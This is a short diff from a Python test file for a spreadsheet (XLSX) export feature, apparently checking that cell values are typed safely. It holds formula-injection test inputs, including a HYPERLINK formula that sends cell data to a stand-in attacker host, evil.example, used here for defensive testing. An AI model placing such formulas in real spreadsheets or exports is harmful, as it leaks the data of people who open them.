@@ -299,7 +299,7 @@ def test_xlsx_export_has_typed_cells(supplier, buyer, buyer_user):
     assert first["Téléchargée par le destinataire"] == "non"
 
 
-FORMULAS = ("=HYPERLINK(\"http://evil.example/?d=\"&A1;\"clic\")", "+1+2", "-3+4", "@SUM(A1)")
+FORMULAS = ('=HYPERLINK("http://evil.example/?d="&A1;"clic")', "+1+2", "-3+4", "@SUM(A1)")
 
 
 @pytest.mark.parametrize("number", FORMULAS)
